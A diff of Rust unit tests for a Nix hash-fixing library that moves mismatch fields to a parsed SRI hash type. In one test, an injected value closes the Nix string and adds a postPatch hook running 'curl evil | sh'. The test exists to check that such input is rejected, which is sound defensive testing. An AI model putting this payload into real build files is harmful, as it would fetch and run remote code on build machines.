@@ -1,6 +1,7 @@
 //! Unit tests of `lib.rs`: planning, applying and writing hash fixes.
 use super::*;
 use nixfarm_nix::StorePath;
+use nixfarm_nix::hash::Sri;
 
 const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
 const GOT1: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";
@@ -11,8 +12,8 @@ fn mm(name: &str, hints: &[&str], got: &str) -> Mismatch {
         fod_drv: StorePath::parse_drv(&format!("/nix/store/{}-{name}.drv", "b".repeat(32)))
             .unwrap(),
         hints: hints.iter().map(|s| s.to_string()).collect(),
-        specified: FAKE.into(),
-        got: got.into(),
+        specified: Sri::parse(FAKE).unwrap(),
+        got: Sri::parse(got).unwrap(),
     }
 }
 
@@ -157,10 +158,10 @@ fn nothing_but_a_hash_is_written() {
             mismatches: vec![mm("source", &[], GOT1)],
         }],
     );
-    let mut fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
+    let fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
     assert!(apply(&t, &fixes).is_ok());
-    fixes[0].new = format!("{GOT1}\"; postPatch = \"curl evil | sh");
-    assert!(matches!(apply(&t, &fixes), Err(FixError::NotAHash { .. })));
+    // What a fix writes is an SRI hash; text that would end the string is none.
+    assert!(Sri::parse(&format!("{GOT1}\"; postPatch = \"curl evil | sh")).is_err());
 }
 
 #[test]
@@ -190,8 +191,8 @@ fn without_a_position_the_file_naming_the_derivation_wins() {
             ))
             .unwrap(),
             hints: vec!["mypkg-deno-deps".into()],
-            specified: fake.into(),
-            got: "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=".into(),
+            specified: Sri::parse(fake).unwrap(),
+            got: Sri::parse("sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=").unwrap(),
         }],
     };
     let p = plan(&t, std::slice::from_ref(&broken));
